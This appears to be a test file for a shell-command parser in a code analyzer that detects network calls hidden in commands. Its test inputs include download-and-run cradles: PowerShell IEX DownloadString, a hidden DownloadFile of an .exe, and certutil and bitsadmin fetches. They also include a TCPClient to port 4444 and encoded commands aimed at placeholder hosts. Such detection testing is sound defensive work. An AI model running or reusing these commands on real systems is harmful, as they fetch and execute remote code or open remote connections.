// The shell-command parser (src/resolve/shell/): sh quoting and operators, substitutions, prefixes,
// shells inside shells (sh -c, cmd /c, powershell -c / -EncodedCommand), PowerShell's own commands and
// .NET downloads, `python -c` code, the command-position model, the tool-argument reading of rule
// entries, and hostile input (1 MB commands, 10,000 nested `$(`, unbalanced quotes) in bounded time.
import { pythonParser } from '../src/parse/parser.js';
import { collectSymbols } from '../src/resolve/scopes.js';
import type { CommandInput, Invocation } from '../src/resolve/shell/invocations.js';
import { invocations, pythonCode } from '../src/resolve/shell/invocations.js';
import { parseSh } from '../src/resolve/shell/sh.js';
import { HOLE, LIMITS, toolName } from '../src/resolve/shell/words.js';
import type { CommandTool } from '../src/rules/command-tools.js';
import { toolSends } from '../src/rules/command-tools.js';
import { commandPythonCode } from '../src/rules/command-site.js';
import { Resolver } from '../src/resolve/values.js';
import { withinBudget } from './helpers/budget.js';

const str = (text: string, holes: unknown[] = []): CommandInput<unknown> => ({ kind: 'string', text, holes });
const argv = (...words: string[]): CommandInput<unknown> => ({
  kind: 'argv',
  words: words.map((text) => ({ text, holes: [] })),
});
/** [tool, args...] of each program run, in order found. */
const runs = (input: CommandInput<unknown>) =>
  invocations(input).map((i) => [i.tool ?? '?', ...i.args.map((a) => a.text)]);
const tools = (text: string) => invocations(str(text)).map((i) => i.tool ?? '?');

describe('sh words and operators', () => {
  it('removes quotes and escapes the way sh does', () => {
    expect(runs(str(`'cu''rl' "-d" "a b" a\\ b "q\\"x" 'it''s' "$" x\\$y`))).toEqual([
      ['curl', '-d', 'a b', 'a b', 'q"x', 'its', '$', 'x$y'],
    ]);
  });

  it('splits commands at ; && || | & and newlines', () => {
    expect(tools('a; b && c || d | e & f\ng |& h')).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
  });

  it('drops redirections, fd numbers and here-document bodies', () => {
    expect(runs(str('curl x >out 2>&1 <in 3>>log &>all\ncat <<EOF | sh\ncurl hidden\nEOF\nwget y'))).toEqual([
      ['curl', 'x'],
      ['cat'],
      ['sh'],
      ['wget', 'y'],
    ]);
  });

  it('parses $(…) and backticks as commands, their output a hole', () => {
    const r = invocations(str('echo "$(curl -s a.example)" `wget b.example`'));
    expect(r.map((i) => i.tool)).toEqual(['curl', 'wget', 'echo']);
    expect(r[2]!.args.map((a) => a.text)).toEqual([HOLE, HOLE]);
  });

  it('expands variables assigned earlier in the string, others are holes', () => {
    expect(runs(str('U=https://x.example/u; curl $U ${U}/v $HOME'))).toEqual([
      ['curl', 'https://x.example/u', 'https://x.example/u/v', HOLE],
    ]);
  });

  it('maps the holes of the Python value to the words they fall in', () => {
    const [inv] = invocations(str(`curl -d @${HOLE} "https://${HOLE}/x"`, ['path', 'host']));
    expect(inv!.args.map((a) => a.holes)).toEqual([[], ['path'], ['host']]);
  });

  it('keeps the words of an argv list whole (no shell)', () => {
    expect(runs(argv('echo', 'a; curl x.example'))).toEqual([['echo', 'a; curl x.example']]);
  });

  it('splits words only, without operators, for shlex.split', () => {
    const words = parseSh(`wget 'a b'; x`, [], { dialect: 'sh', operators: false }).flatMap((c) => c.words);
    expect(words.map((w) => w.text)).toEqual(['wget', 'a b;', 'x']);
  });
});

describe('the command position', () => {
  it('looks through prefixes and keywords', () => {
    expect(
      tools('A=1 sudo -u root env -i B=2 nohup nice -n 5 timeout -s KILL 5 stdbuf -oL xargs -n1 -I{} exec -a n curl x'),
    ).toEqual(['curl']);
    expect(tools('if curl -s x; then wget y; fi; for h in a b; do ping $h; done')).toEqual([
      'curl',
      'wget',
      'fi',
      'for',
      'ping',
      'done',
    ]);
  });

  it('does not take a tool named as an argument for a call', () => {
    expect(tools('echo curl x; grep wget log.txt; man ssh; which nc')).toEqual(['echo', 'grep', 'man', 'which']);
    expect(tools('command -v curl')).toEqual([]);
  });

  it('names programs by basename, lower-case, without .exe or version', () => {
    expect(
      ['/usr/bin/curl', 'CURL.EXE', 'pip3.11', 'python3', 'C:\\Windows\\certutil.exe'].map((t) =>
        toolName({ text: t, holes: [] }),
      ),
    ).toEqual(['curl', 'curl', 'pip', 'python', 'certutil']);
    expect(toolName({ text: HOLE, holes: [undefined] })).toBeUndefined();
  });
});

describe('shells inside shells', () => {
  it('follows sh -c, bash -lc, su -c and nested quoting', () => {
    const r = invocations(str(`sh -c "bash -lc 'curl a.example'"; su -c 'wget b.example' root`));
    expect(r.filter((i) => i.tool === 'curl' || i.tool === 'wget').map((i) => [i.tool, i.depth])).toEqual([
      ['curl', 2],
      ['wget', 1],
    ]);
  });

  it('follows cmd /c with cmd quoting and separators', () => {
    expect(
      runs(argv('cmd.exe', '/c', 'certutil -urlcache -f "http://a.example/x y" o & bitsadmin ^/transfer j')),
    ).toEqual([
      ['cmd', '/c', 'certutil -urlcache -f "http://a.example/x y" o & bitsadmin ^/transfer j'],
      ['certutil', '-urlcache', '-f', 'http://a.example/x y', 'o'],
      ['bitsadmin', '/transfer', 'j'],
    ]);
  });

  it('follows powershell -Command and -EncodedCommand (base64 UTF-16LE)', () => {
    const enc = Buffer.from("iwr 'https://e.example/p'", 'utf16le').toString('base64');
    const r = invocations(argv('powershell', '-nop', '-w', 'hidden', '-EncodedCommand', enc));
    expect(r.map((i) => [i.tool, i.dialect, ...i.args.map((a) => a.text)]).slice(1)).toEqual([
      ['iwr', 'powershell', 'https://e.example/p'],
    ]);
    expect(new Set(tools(`pwsh -c "Start-BitsTransfer -Source https://b.example/x"`))).toEqual(
      new Set(['pwsh', 'start-bitstransfer']),
    );
  });

  it('reads a command line for Windows programs the way cmd.exe does too', () => {
    // sh would stop at the parenthesis; cmd.exe (os.system on Windows) passes it to PowerShell.
    const line =
      "powershell -window hidden -executionpolicy bypass (New-object system.net.webclient).DownloadFile('http://x.example/a',$env:APPDATA+'\\a.exe')";
    const dl = invocations(str(line)).find((i) => i.tool === 'webclient.downloadfile');
    expect(dl?.args[0]?.text).toBe('http://x.example/a');
    // A POSIX command line is read once, by sh.
    expect(tools(`echo 'a | nc h.example 1'`)).toEqual(['echo']);
  });

  it('stops at LIMITS.depth levels of nesting', () => {
    let cmd = 'curl deep.example';
    for (let k = 0; k < 12; k++) cmd = `sh -c ${JSON.stringify(cmd)}`;
    const r = invocations(str(cmd));
    expect(r.some((i) => i.tool === 'curl')).toBe(false);
    expect(Math.max(...r.map((i) => i.depth))).toBe(LIMITS.depth - 1);
  });
});

describe('PowerShell', () => {
  const ps = (text: string) =>
    invocations({ kind: 'string', text, holes: [], dialect: 'powershell' }).map((i) => [
      i.tool,
      ...i.args.map((a) => a.text),
    ]);

  it('reads cmdlets with PowerShell quoting, lower-casing names and parameters', () => {
    expect(ps(`$r = Invoke-WebRequest -Uri 'https://a.example/it''s' -OutFile "C:\\x"; & IRM "h\`"t"`)).toEqual([
      ['invoke-webrequest', '-uri', "https://a.example/it's", '-outfile', 'C:\\x'],
      ['irm', 'h"t'],
    ]);
  });

  it('writes .NET downloads and sockets as commands, remembering $x = literal', () => {
    const r = ps(
      `IEX (New-Object Net.WebClient).DownloadString('http://a.example/s'); $u = 'http://b.example/f'; ` +
        `$wc = New-Object System.Net.WebClient; $wc.DownloadFile($u, 'C:\\f'); ` +
        `$c = New-Object System.Net.Sockets.TCPClient('10.0.0.9', 4444); [Net.WebRequest]::Create("http://c.example")`,
    );
    expect(r.filter((x) => /^(webclient\.|tcpclient$|webrequest\.create$)/.test(x[0]!))).toEqual([
      ['webclient.downloadstring', 'http://a.example/s'],
      ['webclient.downloadfile', HOLE, 'C:\\f'],
      ['tcpclient', '10.0.0.9', '4444'],
      ['webrequest.create', 'http://c.example'],
    ]);
  });
});

describe('python -c and python -m', () => {
  it('returns the code of python -c, at any nesting level', () => {
    const code = pythonCode(str(`sh -c "python3 -c 'import os; os.system(1)'"; python -uc "print(2)"`));
    expect(code.map((w) => w.text)).toEqual(['import os; os.system(1)', 'print(2)']);
    expect(pythonCode(argv('python', 'script.py', '-c', 'x'))).toEqual([]);
  });

  it('runs the module of python -m as a program', () => {
    expect(runs(argv('python', '-m', 'pip', 'install', 'x')).slice(1)).toEqual([['pip', 'install', 'x']]);
  });
});

describe('tool entries (rule data)', () => {
  const inv = (...words: string[]): Invocation<unknown> => invocations(argv(...words))[0]!;
  const host = (spec: CommandTool, ...words: string[]) => {
    const s = toolSends(spec, inv(...words));
    return s ? (s.host?.text ?? s.defaultHost ?? null) : undefined;
  };

  it('tells option values from operands', () => {
    const nc: CommandTool = { tools: ['nc'], host: 'operand', 'value-flags': ['-w', '-p'] };
    expect(host(nc, 'nc', '-w', '3', '-p22', 'h.example', '80')).toBe('h.example');
    expect(host(nc, 'nc', '-w', '3', '--', '-odd', '80')).toBe('-odd');
  });

  it('needs the subcommand, honours ignore-flags, requires-flags and defaults', () => {
    const pip: CommandTool = {
      tools: ['pip'],
      subcommands: ['install'],
      'ignore-flags': ['--no-index'],
      'host-flags': ['-i', '--index-url'],
      'default-host': 'pypi.org',
    };
    expect(host(pip, 'pip', 'install', 'x')).toBe('pypi.org');
    expect(host(pip, 'pip', 'install', '--index-url=https://i.example/simple', 'x')).toBe('https://i.example/simple');
    expect(host(pip, 'pip', 'install', '-ihttps://j.example/simple', 'x')).toBe('https://j.example/simple');
    expect(host(pip, 'pip', 'list')).toBeUndefined();
    expect(host(pip, 'pip', 'install', '--no-index', 'x')).toBeUndefined();
    const cu: CommandTool = { tools: ['certutil'], 'requires-flags': ['-urlcache'] };
    expect(host(cu, 'certutil', '-decode', 'a', 'b')).toBeUndefined();
    expect(host(cu, 'certutil', '-URLCache', '-f', 'http://c.example/x', 'x')).toBeUndefined(); // argv is case-sensitive
  });

  it('reads images, socat addresses, templates and remotes', () => {
    const docker: CommandTool = {
      tools: ['docker'],
      subcommands: ['push'],
      host: 'image',
      'default-host': 'docker.io',
    };
    expect(host(docker, 'docker', 'push', 'localhost:5000/app')).toBe('localhost:5000');
    expect(host(docker, 'docker', 'push', 'team/app:1')).toBe('docker.io');
    const socat: CommandTool = { tools: ['socat'], host: 'address', 'address-types': ['tcp'] };
    expect(host(socat, 'socat', '-', 'TCP:s.example:80,retry=3')).toBe('s.example');
    const az: CommandTool = { tools: ['az'], 'flag-hosts': { '--account-name': '{}.blob.core.windows.net' } };
    expect(host(az, 'az', '--account-name', 'acct')).toBe('acct.blob.core.windows.net');
    const scp: CommandTool = { tools: ['scp'], 'needs-host': true };
    expect(host(scp, 'scp', 'a', 'u@r.example:/x')).toBe('u@r.example:/x');
    expect(host(scp, 'scp', 'a', 'C:\\b')).toBeUndefined();
  });
});

describe('hostile commands (bounded time, never throws)', () => {
  it('parses a 1 MB command', async () => {
    const big = 'curl -d ' + 'a'.repeat(1 << 20) + ' x.example; ' + 'b; '.repeat(100_000);
    const r = await withinBudget(3000, () => invocations(str(big)));
    expect(r[0]!.tool).toBe('curl');
    expect(r.length).toBeLessThanOrEqual(LIMITS.commands);
  });

  it('handles 10,000 nested $( and backticks', async () => {
    const deep = '$('.repeat(10_000) + 'curl x' + ')'.repeat(10_000);
    const r = await withinBudget(3000, () => invocations(str(deep)));
    expect(Math.max(...r.map((i) => i.depth))).toBeLessThan(LIMITS.depth);
    const open = await withinBudget(3000, () => invocations(str('echo ' + '$('.repeat(10_000))));
    expect(open[open.length - 1]!.tool).toBe('echo');
    await withinBudget(3000, () => invocations(str('`'.repeat(100_001))));
    const ps = '$('.repeat(10_000) + '('.repeat(10_000);
    await withinBudget(3000, () => invocations({ kind: 'string', text: ps, holes: [], dialect: 'powershell' }));
  });

  it('handles unbalanced quotes, lone operators and odd bytes', async () => {
    const odd = [
      `curl "unterminated`,
      `curl 'unterminated`,
      `"`.repeat(100_001),
      `'`.repeat(100_001),
      `\\`.repeat(100_001),
      `<<`.repeat(50_000),
      `${'a=1 '.repeat(50_000)}curl x`,
      `>${'>'.repeat(10_000)}`,
      `$\{${'{'.repeat(10_000)}`,
      HOLE.repeat(10_000),
      `powershell -enc ${'A'.repeat(1 << 20)}`,
      `cmd /c ${'^'.repeat(100_001)}`,
      `powershell -c ${"'".repeat(100_001)}`,
      `powershell -c "${'(New-Object Net.WebClient).DownloadString('.repeat(5_000)}"`,
    ];
    for (const text of odd) {
      const r = await withinBudget(3000, () => invocations(str(text, [])));
      expect(Array.isArray(r)).toBe(true);
    }
    expect(runs(str(`curl "https://a.example/x`))).toEqual([['curl', 'https://a.example/x']]);
  });
});

describe('commandPythonCode (the python -c code a Python call runs)', () => {
  it('reads the code from lists, strings and constants, with holes for data', async () => {
    const parser = await pythonParser();
    const source = [
      'import subprocess, os, sys',
      'CODE = "import socket; socket.create_connection((\'198.51.100.1\', 80))"',
      'subprocess.run([sys.executable, "-c", CODE])',
      'os.system(f"bash -c \\"python3 -c \'print({token})\'\\"")',
      'subprocess.run(["python", "script.py"])',
    ].join('\n');
    const tree = parser.parse(source)!;
    try {
      const symbols = collectSymbols(parser, tree);
      const resolver = new Resolver();
      const code = symbols.calls
        .filter((c) => c.node.childForFieldName('function')?.type === 'attribute')
        .map((c) => commandPythonCode(c.node, c.scope, resolver).map((v) => (v.kind === 'text' ? v.text : '?')));
      expect(code).toEqual([["import socket; socket.create_connection(('198.51.100.1', 80))"], [`print(${HOLE})`], []]);
    } finally {
      tree.delete();
    }
  });
});
